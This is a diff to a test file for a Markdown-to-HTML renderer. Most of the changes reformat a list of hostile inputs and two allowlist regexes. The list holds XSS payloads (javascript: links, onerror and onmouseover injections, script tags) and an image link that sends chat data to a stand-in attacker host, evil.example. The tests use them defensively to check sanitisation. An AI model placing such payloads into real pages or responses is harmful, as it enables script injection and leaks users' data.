@@ -34,12 +34,12 @@ const HOSTILE = [
   "[x](https://good.example@evil.example/)",
   "![x](https://evil.example/leak.png?chat=secret)",
   "![x](javascript:alert(1))",
-  "![x\"onerror=alert(1)](https://evil.example/a.png)",
-  "[x](https://a.example \"t\" onmouseover=\"alert(1)\")",
-  "<https://a.example/?\"onmouseover=alert(1)>",
+  '![x"onerror=alert(1)](https://evil.example/a.png)',
+  '[x](https://a.example "t" onmouseover="alert(1)")',
+  '<https://a.example/?"onmouseover=alert(1)>',
   "<javascript:alert(1)>",
   "```<img src=x onerror=alert(1)>\ncode\n```",
-  "```js\"><script>alert(1)</script>\ncode\n```",
+  '```js"><script>alert(1)</script>\ncode\n```',
   "| <script>alert(1)</script> |\n|---|\n| <img src=x> |",
   "# <img src=x onerror=alert(1)>",
   "- <b onclick=alert(1)>x</b>",
@@ -52,8 +52,10 @@ const HOSTILE = [
 ];
 
 describe("whatever an answer says", () => {
-  const ALLOWED = /^<(div|p|strong|em|del|code|pre|br|a|h[3-6]|hr|blockquote|ul|ol|li|table|thead|tbody|tr|th|td|span|button|svg|path)\b/;
-  const LINK = /^<a (class="image-link" )?href="(https?:|mailto:)[^"]*" target="_blank" rel="noopener noreferrer"( title="[^"]*")?>$/;
+  const ALLOWED =
+    /^<(div|p|strong|em|del|code|pre|br|a|h[3-6]|hr|blockquote|ul|ol|li|table|thead|tbody|tr|th|td|span|button|svg|path)\b/;
+  const LINK =
+    /^<a (class="image-link" )?href="(https?:|mailto:)[^"]*" target="_blank" rel="noopener noreferrer"( title="[^"]*")?>$/;
 
   test.each(HOSTILE)("%s", (text) => {
     for (const element of elements(drawn(text))) {
@@ -85,8 +87,24 @@ describe("whatever an answer says", () => {
 
 describe("what is drawn", () => {
   test("Markdown of every kind", () => {
-    const html = drawn("# a\n\n**b** *c* ~~d~~ `e`\\*\n\n1. f\n2. g\n\n- [x] h\n- [ ] i\n\n> j\n\n---\n\n| k | l |\n|--|-:|\n| m | n |\n");
-    for (const part of ["<h3>a</h3>", "<strong>b</strong>", "<em>c</em>", "<del>d</del>", "<code>e</code>*", "<ol", "<li>f", "☑", "☐", "<blockquote>", "<hr", "<th", "align-right"]) {
+    const html = drawn(
+      "# a\n\n**b** *c* ~~d~~ `e`\\*\n\n1. f\n2. g\n\n- [x] h\n- [ ] i\n\n> j\n\n---\n\n| k | l |\n|--|-:|\n| m | n |\n",
+    );
+    for (const part of [
+      "<h3>a</h3>",
+      "<strong>b</strong>",
+      "<em>c</em>",
+      "<del>d</del>",
+      "<code>e</code>*",
+      "<ol",
+      "<li>f",
+      "☑",
+      "☐",
+      "<blockquote>",
+      "<hr",
+      "<th",
+      "align-right",
+    ]) {
       expect(html).toContain(part);
     }
   });
